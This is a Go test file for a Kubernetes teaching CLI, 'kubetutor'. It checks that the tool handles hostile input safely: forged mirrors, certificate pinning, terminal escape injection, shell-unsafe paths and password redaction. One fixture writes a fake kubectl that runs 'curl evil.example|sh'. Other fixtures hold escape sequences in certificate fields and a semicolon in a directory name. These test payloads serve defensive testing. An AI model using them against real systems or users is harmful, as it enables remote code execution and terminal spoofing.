package cli

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/kubetutor/kubetutor/internal/fetch"
	"github.com/kubetutor/kubetutor/internal/room"
)

// forgedMirror is a mirror directory whose kubectl is a 33-byte shell
// script, with a .sha256 that matches it.
func forgedMirror(t *testing.T) string {
	dir, _ := mirrorOnDisk(t)
	forged := []byte("#!/bin/sh\ncurl evil.example|sh\n#")
	p := filepath.Join(dir, "kubernetes/v1.37.2/bin/linux/amd64/kubectl")
	os.WriteFile(p, forged, 0o755)
	os.WriteFile(p+".sha256", []byte(sha256hex(forged)), 0o644)
	return dir
}

// joinedRoom writes the room file of a learner who joined the room at base,
// pinning fingerprint, as room join does.
func joinedRoom(t *testing.T, state, base, fingerprint string) {
	data, _ := json.Marshal(room.State{URL: base, Name: "Ada", ID: "0123456789abcdef", Secret: "secret", Fingerprint: fingerprint})
	if err := os.WriteFile(filepath.Join(state, room.StateFile), data, 0o600); err != nil {
		t.Fatal(err)
	}
}

// TestDefects18 has the command-line cases of issue 18 ("hostile input,
// round two"); the package cases are in internal/fetch, internal/room and
// lessons.
func TestDefects18(t *testing.T) {
	cases := []defectCase{
		{
			name: "2 a plain-HTTP mirror serving a forged kubectl with its matching .sha256",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				srv := httptest.NewServer(fetch.Handler(forgedMirror(d.t), nil))
				d.cleanup = append(d.cleanup, srv.Close)
				return []string{"fetch", "--mirror", srv.URL, "--arch", "amd64", "kubernetes"}
			},
			code:   2,
			want:   []string{"refusing the plain-HTTP mirror http://127.0.0.1:", "or pass --insecure-mirror to take that risk"},
			absent: []string{"kubectl: 33 B ok"},
			after: func(t *testing.T, d *defectEnv) {
				if _, err := os.Stat(d.path("bin/kubectl")); err == nil {
					t.Error("bin/kubectl was installed from the forged mirror")
				}
			},
		},
		{
			name: "2 --insecure-mirror says what it risks",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				dir, _ := mirrorOnDisk(d.t)
				srv := httptest.NewServer(fetch.Handler(dir, nil))
				d.cleanup = append(d.cleanup, srv.Close)
				return []string{"fetch", "--mirror", srv.URL, "--insecure-mirror", "--arch", "amd64", "kubernetes"}
			},
			want: []string{"warning: --insecure-mirror: http://127.0.0.1:", "is plain HTTP and nothing authenticates it", "kubectl: 41 B ok"},
		},
		{
			name: "2 the joined room's HTTPS mirror is pinned to the room's certificate",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				dir, _ := mirrorOnDisk(d.t)
				mux := http.NewServeMux()
				mux.Handle("/mirror/", http.StripPrefix("/mirror", fetch.Handler(dir, nil)))
				srv := httptest.NewTLSServer(mux)
				d.cleanup = append(d.cleanup, srv.Close)
				sum := sha256.Sum256(srv.Certificate().Raw)
				joinedRoom(d.t, d.state, srv.URL, hex.EncodeToString(sum[:]))
				return []string{"fetch", "--mirror", srv.URL + "/mirror", "--arch", "amd64", "kubernetes"}
			},
			want: []string{"kubectl: 41 B ok"},
		},
		{
			name: "2 an HTTPS mirror with another certificate than the room's",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				mux := http.NewServeMux()
				mux.Handle("/mirror/", http.StripPrefix("/mirror", fetch.Handler(forgedMirror(d.t), nil)))
				srv := httptest.NewTLSServer(mux)
				d.cleanup = append(d.cleanup, srv.Close)
				joinedRoom(d.t, d.state, srv.URL, hex.EncodeToString(make([]byte, 32)))
				return []string{"fetch", "--mirror", srv.URL + "/mirror", "--arch", "amd64", "kubernetes"}
			},
			code: 1,
			want: []string{"not the room's pinned", "this is not the instructor's room"},
			after: func(t *testing.T, d *defectEnv) {
				if _, err := os.Stat(d.path("bin/kubectl")); err == nil {
					t.Error("bin/kubectl was installed")
				}
			},
		},
		{
			name: "2 an HTTPS room mirror before joining the room",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				srv := httptest.NewTLSServer(fetch.Handler(forgedMirror(d.t), nil))
				d.cleanup = append(d.cleanup, srv.Close)
				return []string{"fetch", "--mirror", srv.URL, "--arch", "amd64", "kubernetes", "--stall-timeout", "5s"}
			},
			code: 1,
			want: []string{"certificate", "hint: a room's mirror has the room's own certificate: run the room join command the instructor gave first"},
		},
		{
			name: "3 room serve --mirror-dir /",
			setup: func(d *defectEnv) []string {
				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--mirror-dir", "/"}
			},
			code: 2,
			want: []string{"--mirror-dir: serve /: that is the whole file system"},
		},
		{
			name: "3 room serve with the room's data inside the mirror",
			setup: func(d *defectEnv) []string {
				os.MkdirAll(d.path("mirror"), 0o755)
				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--mirror-dir", d.path("mirror"), "--data", d.path("mirror/room")}
			},
			code: 2,
			want: []string{"overlap: the mirror would be next to the room's tokens and key"},
		},
		{
			name: "4 room serve on a room.db cut short",
			setup: func(d *defectEnv) []string {
				os.MkdirAll(d.path("c"), 0o700)
				os.WriteFile(d.path("c/room.db"), make([]byte, 100000), 0o600)
				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--data", d.path("c")}
			},
			code: 1,
			want: []string{"the room's database " + "", "room.db is damaged (", "move it aside (mv "},
		},
		{
			name: "4 room serve on a FIFO as room.db",
			setup: func(d *defectEnv) []string {
				os.MkdirAll(d.path("c"), 0o700)
				d.fifo("c/room.db")
				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--data", d.path("c")}
			},
			code:   1,
			want:   []string{"room.db is a named pipe (FIFO), not a regular file"},
			absent: []string{"illegal seek"},
		},
		{
			name: "5 room serve --tls on a damaged tls.crt",
			setup: func(d *defectEnv) []string {
				os.MkdirAll(d.path("c"), 0o700)
				if _, _, err := room.Certificate(d.path("c"), []string{"localhost"}, false); err != nil {
					d.t.Fatal(err)
				}
				d.keepBytes(d.path("c/tls.key"))
				os.WriteFile(d.path("c/tls.crt"), []byte("-----BEGIN CERTIFICATE-----\ndamaged\n"), 0o644)
				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--tls", "--data", d.path("c")}
			},
			code: 1,
			want: []string{"learners pinned its fingerprint, so a new certificate would cut every one of them off without a word", "--new-certificate"},
		},
		{
			name: "5 room serve --tls on a FIFO as tls.crt",
			setup: func(d *defectEnv) []string {
				os.MkdirAll(d.path("c"), 0o700)
				room.Certificate(d.path("c"), []string{"localhost"}, false)
				os.Remove(d.path("c/tls.crt"))
				d.fifo("c/tls.crt")
				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--tls", "--data", d.path("c")}
			},
			code: 1,
			want: []string{"tls.crt is a named pipe (FIFO), not a regular file"},
		},
		{
			name:  "5 --new-certificate without --tls",
			setup: args("room", "serve", "--addr", "127.0.0.1:0", "--new-certificate"),
			code:  2,
			want:  []string{"--new-certificate replaces the TLS certificate kept in --data: give --tls and --data too"},
		},
		{
			name: "9 room join: the room's error body with terminal escapes",
			setup: func(d *defectEnv) []string {
				srv := hostileAnswer(http.StatusInternalServerError, hostileText)
				d.cleanup = append(d.cleanup, srv.Close)
				return []string{"room", "join", srv.URL + "/?token=x", "--name", "Ada"}
			},
			code:   1,
			want:   []string{"the room answered 500: " + hostileShown},
			absent: rawEscapes,
		},
		{
			name: "9 room status: the room's error body with terminal escapes",
			setup: func(d *defectEnv) []string {
				srv := hostileAnswer(http.StatusForbidden, hostileText)
				d.cleanup = append(d.cleanup, srv.Close)
				joinedRoom(d.t, d.state, srv.URL, "")
				return []string{"room", "status"}
			},
			code:   1,
			want:   []string{"the room does not take your reports: the room answered 403: " + hostileShown},
			absent: rawEscapes,
		},
		{
			name: "9 fetch --mirror: an HTTP reason phrase with terminal escapes",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				addr := rawHTTP(d, "HTTP/1.1 404 Not Found"+hostileText+"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
				return []string{"fetch", "--mirror", "http://" + addr, "--insecure-mirror", "--arch", "amd64", "kubernetes"}
			},
			code:   1,
			want:   []string{"404 Not Found" + hostileShown},
			absent: rawEscapes,
		},
		{
			name: "9 certs inspect: subject, issuer and SANs with terminal escapes",
			setup: func(d *defectEnv) []string {
				d.write("evil.crt", hostileCert(d.t))
				return []string{"certs", "inspect", d.path("evil.crt")}
			},
			want: []string{
				`subject        CN=admin\x1b]0\;pwned\x07\x1b[2J\u202e,O=system:masters\x1b[8m`,
				`issuer         CN=admin\x1b]0\;pwned\x07\x1b[2J\u202e,O=system:masters\x1b[8m`,
				`SANs           DNS:evil\x1b[2J.example, DNS:ok.example`,
				`user "admin\x1b]0;pwned\a\x1b[2J\u202e" (CN)`,
			},
			absent: rawEscapes,
		},
		{
			name: "12 fetch into a work dir with a space and a semicolon: the PATH line is one word",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				dir, _ := mirrorOnDisk(d.t)
				srv := httptest.NewServer(fetch.Handler(dir, nil))
				d.cleanup = append(d.cleanup, srv.Close)
				wd := d.path("my work;x")
				os.MkdirAll(wd, 0o755)
				return []string{"--workdir", wd, "fetch", "--mirror", srv.URL, "--insecure-mirror", "--arch", "amd64", "kubernetes"}
			},
			want:   []string{"  export PATH='", "/my work;x/bin':$PATH\n"},
			absent: []string{"export PATH=/"},
		},
		{
			name: "12 certs init in a work dir with a space: the KUBECONFIG line is one word",
			setup: func(d *defectEnv) []string {
				wd := d.path("my work")
				os.MkdirAll(wd, 0o755)
				return []string{"--workdir", wd, "--kubeconfig", filepath.Join(wd, "admin.conf"), "certs", "init"}
			},
			want: []string{"Next: export KUBECONFIG='", "/my work/admin.conf', then kubetutor check certs"},
		},
		{
			name: "12 check tools in a work dir with a quote: the chmod hint is one word",
			setup: func(d *defectEnv) []string {
				fakeTools(d.t, d.path("it's here"))
				os.Chmod(d.path("it's here/bin/kubectl"), 0o644)
				return []string{"--workdir", d.path("it's here"), "check", "tools"}
			},
			code: 1,
			want: []string{"chmod +x '", `/it'\''s here/bin/kubectl'`},
		},
		{
			name:  "13 room join --timeout 0",
			setup: args("room", "join", "http://127.0.0.1:1/?token=x", "--name", "Ada", "--timeout", "0"),
			code:  2,
			want:  []string{"--timeout 0s: give a positive duration, e.g. --timeout 10s"},
		},
		{
			name:  "13 room join --timeout -1s",
			setup: args("room", "join", "http://127.0.0.1:1/?token=x", "--name", "Ada", "--timeout", "-1s"),
			code:  2,
			want:  []string{"--timeout -1s: give a positive duration"},
		},
		{
			name: "13 a room answering 200 with an empty id",
			setup: func(d *defectEnv) []string {
				srv := hostileAnswer(http.StatusOK, `{"name":"Ada","id":"","secret":""}`)
				d.cleanup = append(d.cleanup, srv.Close)
				return []string{"room", "join", srv.URL + "/?token=x", "--name", "Ada"}
			},
			code:   1,
			want:   []string{"answered without a learner id and secret, so your checks could not report to it; is it a kubetutor room (kubetutor room serve)?"},
			absent: []string{"Joined"},
			after: func(t *testing.T, d *defectEnv) {
				if _, err := os.Stat(filepath.Join(d.state, room.StateFile)); err == nil {
					t.Error("the room file was written")
				}
			},
		},
		{
			name:   "13 completion tcsh",
			setup:  args("completion", "tcsh"),
			code:   2,
			want:   []string{`no completion for the shell "tcsh": kubetutor completes bash, fish, powershell, zsh (e.g. kubetutor completion bash)`},
			absent: []string{"Usage:"},
		},
		{
			name: "13 certificate expiry in days, not hours",
			setup: func(d *defectEnv) []string {
				d.write("soon.crt", certExpiring(d.t, time.Now().Add(27*24*time.Hour+8*time.Hour)))
				return []string{"certs", "inspect", d.path("soon.crt")}
			},
			want:   []string{"Expires in 27 days, on 20"},
			absent: []string{"h0m0s"},
		},
		{
			name:   "13 show --commands with no lesson on a first run: the first step's",
			setup:  args("show", "--commands"),
			want:   []string{"mkdir -p bin certs\n"},
			absent: []string{"is not a step"},
		},
		{
			name:  "13 show --commands for a lesson that is not a step",
			setup: args("show", "welcome", "--commands"),
			code:  2,
			want:  []string{"welcome is not a step, it has no commands: give a step, e.g. kubetutor show tools --commands (steps: tools, certs, "},
		},
		{
			name: "11 a password in the --mirror URL is sent, never printed nor written to a file",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				dir, _ := mirrorOnDisk(d.t)
				h := fetch.Handler(dir, nil)
				srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					if u, p, ok := r.BasicAuth(); !ok || u != "ada" || p != "s3cret" {
						http.Error(w, "who are you?", http.StatusUnauthorized)
						return
					}
					if strings.HasPrefix(r.URL.Path, "/cni/") {
						http.Error(w, "broken", http.StatusInternalServerError)
						return
					}
					h.ServeHTTP(w, r)
				}))
				d.cleanup = append(d.cleanup, srv.Close)
				return []string{"fetch", "--mirror", strings.Replace(srv.URL, "http://", "http://ada:s3cret@", 1), "--insecure-mirror",
					"--arch", "amd64", "--cni-dir", d.path("cni"), "kubernetes", "etcd", "cni"}
			},
			code:   1,
			want:   []string{"kubectl: 41 B ok", "warning: --insecure-mirror: http://127.0.0.1:", "GET http://127.0.0.1:", "/cni/v1.6.2/cni-plugins-linux-amd64-v1.6.2.tgz.sha256: 500 Internal Server Error"},
			absent: []string{"s3cret", "ada:"},
			after: func(t *testing.T, d *defectEnv) {
				assertNoFileHolds(t, d.wd, "s3cret")
				if _, err := os.Stat(d.path("bin/etcd")); err != nil {
					t.Errorf("etcd was not installed: %v", err)
				}
			},
		},
		{
			name: "11 a password in the kubeconfig's server URL: check does not print it",
			setup: func(d *defectEnv) []string {
				d.kubeconfigFor("https://ada:s3cret@127.0.0.1:1")
				return []string{"check", "apiserver"}
			},
			code:   1,
			want:   []string{"kube-apiserver is not running: nothing listens at https://127.0.0.1:1 (connection refused)"},
			absent: []string{"s3cret", "ada:"},
		},
		{
			name: "11 a password in the kubeconfig's server URL: check -o json does not carry it",
			setup: func(d *defectEnv) []string {
				d.kubeconfigFor("https://ada:s3cret@127.0.0.1:1")
				return []string{"check", "apiserver", "-o", "json"}
			},
			code:   1,
			want:   []string{"nothing listens at https://127.0.0.1:1"},
			absent: []string{"s3cret", "ada:"},
		},
		{
			name: "11 a password in the kubeconfig's server URL: certs inspect does not print it",
			setup: func(d *defectEnv) []string {
				d.kubeconfigFor("https://ada:s3cret@127.0.0.1:1")
				return []string{"certs", "inspect", d.path("admin.conf")}
			},
			want:   []string{"what clients trust to sign https://127.0.0.1:1's serving certificate"},
			absent: []string{"s3cret", "ada:"},
		},
		{
			name: "11 an unreachable proxy-url while the API server answers: not 'kube-apiserver is not running'",
			setup: func(d *defectEnv) []string {
				srv := fakeAPIServer(d)
				d.kubeconfigWith(srv.URL, srv, "    proxy-url: http://127.0.0.1:1\n")
				return []string{"check", "apiserver"}
			},
			code: 1,
			want: []string{"was not asked: the proxy http://127.0.0.1:1, set by the kubeconfig's proxy-url, cannot be reached (connection refused",
				"so this says nothing of kube-apiserver", "kubectl config unset clusters.CLUSTER.proxy-url"},
			absent: []string{"kube-apiserver is not running", "start kube-apiserver"},
		},
		{
			name: "11 the fake API server of these cases passes without a proxy",
			setup: func(d *defectEnv) []string {
				srv := fakeAPIServer(d)
				d.kubeconfigWith(srv.URL, srv, "")
				return []string{"check", "apiserver"}
			},
			want: []string{"kube-apiserver v1.37.2 at https://127.0.0.1:"},
		},
		{
			name: "13 a server URL with a query string: client-go drops the query, the check asks the same server",
			setup: func(d *defectEnv) []string {
				srv := fakeAPIServer(d)
				d.kubeconfigWith(srv.URL+"?timeout=5s", srv, "")
				return []string{"check", "apiserver"}
			},
			want:   []string{"kube-apiserver v1.37.2 at https://127.0.0.1:"},
			absent: []string{"not kube-apiserver"},
		},
		{
			name: "13 a tls-server-name the certificate lacks: fix the kubeconfig, not the certificate",
			setup: func(d *defectEnv) []string {
				srv := fakeAPIServer(d)
				d.kubeconfigWith(srv.URL, srv, "    tls-server-name: wrong.example\n")
				return []string{"check", "apiserver"}
			},
			code: 1,
			want: []string{`not valid for "wrong.example", the kubeconfig's tls-server-name`,
				"hint: set tls-server-name to one of the certificate's names, or remove it"},
			absent: []string{"reissue"},
		},
		{
			name: "11 certs inspect --ca BUNDLE: a certificate signed by the bundle's second CA verifies",
			setup: func(d *defectEnv) []string {
				one, _ := newTestCA(d.t, "ca-one")
				two, twoKey := newTestCA(d.t, "ca-two")
				d.write("bundle.crt", pemCert(one)+pemCert(two))
				d.write("admin.crt", pemCert(issueTestCert(d.t, "admin", two, twoKey)))
				return []string{"certs", "inspect", "--ca", d.path("bundle.crt"), d.path("admin.crt")}
			},
			want:   []string{"bundle.crt (CN=ca-two)"},
			absent: []string{"not signed by"},
		},
		{
			name: "11 certs inspect --ca BUNDLE: a certificate none of the bundle's CAs signed names them all",
			setup: func(d *defectEnv) []string {
				one, _ := newTestCA(d.t, "ca-one")
				two, _ := newTestCA(d.t, "ca-two")
				other, otherKey := newTestCA(d.t, "ca-other")
				d.write("bundle.crt", pemCert(one)+pemCert(two))
				d.write("admin.crt", pemCert(issueTestCert(d.t, "admin", other, otherKey)))
				return []string{"certs", "inspect", "--ca", d.path("bundle.crt"), d.path("admin.crt")}
			},
			want: []string{"issued by CN=ca-other, not signed by", "bundle.crt (a bundle of 2: CN=ca-one; CN=ca-two)"},
		},
		{
			name: "13 a CNI tarball with a newline or an escape in a program's name: nothing installed",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				dir, _ := mirrorOnDisk(d.t)
				plugins := map[string]string{"./evil\x1b]0;pwned\x07\nls": "#!/bin/sh\n"}
				for _, p := range []string{"bridge", "host-local", "loopback", "portmap"} {
					plugins["./"+p] = "#!/bin/sh\necho " + p + "\n"
				}
				cni := tarGz(d.t, plugins)
				base := filepath.Join(dir, "cni/v1.6.2/cni-plugins-linux-amd64-v1.6.2.tgz")
				os.WriteFile(base, cni, 0o644)
				os.WriteFile(base+".sha256", []byte(sha256hex(cni)+"  cni-plugins-linux-amd64-v1.6.2.tgz\n"), 0o644)
				srv := httptest.NewServer(fetch.Handler(dir, nil))
				d.cleanup = append(d.cleanup, srv.Close)
				return []string{"fetch", "--mirror", srv.URL, "--insecure-mirror", "--arch", "amd64", "cni", "--cni-dir", d.path("cni")}
			},
			code:   1,
			want:   []string{`the archive holds a program named "evil\x1b]0;pwned\a\nls", not a plain file name`, "nothing was installed"},
			absent: rawEscapes,
			after: func(t *testing.T, d *defectEnv) {
				assertNoEntries(t, d.path("cni"))
			},
		},
		{
			name: "13 a mirror announcing a 5 GB kubectl: refused before a byte is written",
			setup: func(d *defectEnv) []string {
				noOS(d.t)
				dir, _ := mirrorOnDisk(d.t)
				h := fetch.Handler(dir, nil)
				srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					if strings.HasSuffix(r.URL.Path, "/kubectl") {
						w.Header().Set("Content-Length", "5000000000")
						w.WriteHeader(http.StatusOK)
						w.Write([]byte("#!/bin/sh\n"))
						return
					}
					h.ServeHTTP(w, r)
				}))
				d.cleanup = append(d.cleanup, srv.Close)
				return []string{"fetch", "--mirror", srv.URL, "--insecure-mirror", "--arch", "amd64", "kubernetes"}
			},
			code:   1,
			want:   []string{"/kubectl: the server announces 5.0 GB, more than the 1.0 GB a release file can be: not downloaded"},
			absent: []string{"retrying"},
		},
		{
			name: "13 fetch --from-source that did not finish: the hint does not suggest --from-source",
			setup: func(d *defectEnv) []string {
				goCmd := d.write("fake/go", "#!/bin/sh\nexec sleep 60\n")
				os.Chmod(goCmd, 0o755)
				fetchHook = func(o *fetch.Options) {
					o.Build.Go, o.Build.Timeout = goCmd, 100*time.Millisecond
				}
				d.t.Cleanup(func() { fetchHook = nil })
				return []string{"fetch", "--from-source", "containerd"}
			},
			code:   1,
			want:   []string{"did not finish within 100ms", "hint: --from-source downloads modules from the Go module proxy", "(kubetutor fetch, without --from-source)"},
			absent: []string{"(kubetutor fetch --from-source)"},
		},
		{
			name: "13 a work dir that cannot be looked up (a symlink loop) is not 'does not exist'",
			setup: func(d *defectEnv) []string {
				loop := d.symlink("loop", "loop")
				return []string{"--workdir", loop, "check", "tools"}
			},
			code:   2,
			want:   []string{"/loop cannot be used: too many levels of symbolic links"},
			absent: []string{"does not exist"},
		},
		{
			name: "13 a file as the work dir of certs init is not 'does not exist'",
			setup: func(d *defectEnv) []string {
				return []string{"--workdir", d.write("file", ""), "certs", "init"}
			},
			code:   2,
			want:   []string{"/file is not a directory"},
			absent: []string{"does not exist"},
		},
	}
	runDefectCases(t, cases)
}

// newTestCA is a self-signed CA named cn, and its key.
func newTestCA(t *testing.T, cn string) (*x509.Certificate, *ecdsa.PrivateKey) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: cn}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	c, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	return c, key
}

// issueTestCert is a client certificate for cn signed by ca.
func issueTestCert(t *testing.T, cn string, ca *x509.Certificate, caKey *ecdsa.PrivateKey) *x509.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: cn}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(time.Hour), KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	c, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func pemCert(c *x509.Certificate) string {
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: c.Raw}))
}

// fakeAPIServer is a TLS server that answers /readyz and /version as a
// kube-apiserver v1.37.2 does, to any client.
func fakeAPIServer(d *defectEnv) *httptest.Server {
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/readyz":
			io.WriteString(w, "ok")
		case "/version":
			w.Header().Set("Content-Type", "application/json")
			io.WriteString(w, `{"major":"1","minor":"37","gitVersion":"v1.37.2","platform":"linux/amd64"}`)
		default:
			http.NotFound(w, r)
		}
	}))
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	d.cleanup = append(d.cleanup, srv.Close)
	return srv
}

// kubeconfigWith writes admin.conf pointing at server and trusting srv's
// certificate, with extra lines in its cluster.
func (d *defectEnv) kubeconfigWith(server string, srv *httptest.Server, extra string) {
	d.t.Helper()
	ca := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}))
	d.write("admin.conf", fmt.Sprintf(`apiVersion: v1
kind: Config
clusters:
- name: c
  cluster:
    server: %s
    certificate-authority-data: %s
%susers:
- name: u
  user:
    token: t
contexts:
- name: x
  context: {cluster: c, user: u}
current-context: x
`, server, ca, extra))
}

// assertNoFileHolds fails when a file under dir holds secret.
func assertNoFileHolds(t *testing.T, dir, secret string) {
	t.Helper()
	filepath.WalkDir(dir, func(p string, e fs.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			return nil
		}
		if b, _ := os.ReadFile(p); strings.Contains(string(b), secret) {
			t.Errorf("%s holds %q", p, secret)
		}
		return nil
	})
}

// certExpiring is a self-signed certificate (PEM) valid until notAfter.
func certExpiring(t *testing.T, notAfter time.Time) string {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "admin"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: notAfter}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
}

// hostileText is a server's text that would retitle the terminal, clear
// the screen and reverse what follows; hostileShown is how kubetutor
// shows it.
const (
	hostileText  = "\x1b]0;pwned\x07\x1b[2Jnot\u202eallowed\u009b31m"
	hostileShown = `\x1b]0;pwned\x07\x1b[2Jnot\u202eallowed\u009b31m`
)

// rawEscapes must not reach the terminal from outside text.
var rawEscapes = []string{"\x1b", "\x07", "\u202e", "\u009b"}

// hostileAnswer is a server answering every request with code and body.
func hostileAnswer(code int, body string) *httptest.Server {
	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(code)
		io.WriteString(w, body)
	}))
}

// rawHTTP serves answer, as it is, to every connection, and returns the
// listener's address.
func rawHTTP(d *defectEnv, answer string) string {
	d.t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		d.t.Fatal(err)
	}
	d.cleanup = append(d.cleanup, func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(5 * time.Second))
				buf := make([]byte, 4096)
				c.Read(buf) // the request
				io.WriteString(c, answer)
			}()
		}
	}()
	return l.Addr().String()
}

// hostileCert is a self-signed certificate (PEM) whose subject, issuer and
// SANs hold terminal escapes.
func hostileCert(t *testing.T) string {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	name := pkix.Name{CommonName: "admin\x1b]0;pwned\x07\x1b[2J\u202e", Organization: []string{"system:masters\x1b[8m"}}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: name, Issuer: name, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(time.Hour), DNSNames: []string{"evil\x1b[2J.example", "ok.example"}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
}

// TestDefect18UnreadableWorkDir: a work dir the user may not read is named
// as such, not as one that does not exist (issue 18, defect 13). Root reads
// every directory, so as root (make test) kubetutor runs as nobody, from a
// copy of this test binary nobody may execute.
func TestDefect18UnreadableWorkDir(t *testing.T) {
	base, err := os.MkdirTemp("", "kubetutor-unreadable-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	if err := os.Chmod(base, 0o755); err != nil {
		t.Fatal(err)
	}
	wd := filepath.Join(base, "work")
	if err := os.Mkdir(wd, 0o700); err != nil {
		t.Fatal(err)
	}
	var cred *syscall.Credential
	if os.Geteuid() == 0 {
		cred = &syscall.Credential{Uid: 65534, Gid: 65534}
	} else if err := os.Chmod(wd, 0); err != nil {
		t.Fatal(err)
	} else {
		t.Cleanup(func() { os.Chmod(wd, 0o700) })
	}
	self, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(base, "kubetutor")
	if err := os.WriteFile(bin, self, 0o755); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "--workdir", wd, "--state-dir", filepath.Join(base, "state"), "check", "tools")
	cmd.Env = append(os.Environ(), "KUBETUTOR_CLI_TEST_MAIN=1", "NO_COLOR=1", "TERM=dumb", "HOME="+base)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: cred}
	out, err := cmd.CombinedOutput()
	code := -1
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	}
	want := "work dir " + wd + " cannot be read: permission denied (ls -ld " + wd + " shows its owner and mode)"
	if code != 2 || !strings.Contains(string(out), want) || strings.Contains(string(out), "does not exist") {
		t.Errorf("exit %d (%v), want 2 and %q:\n%s", code, err, want, out)
	}
}
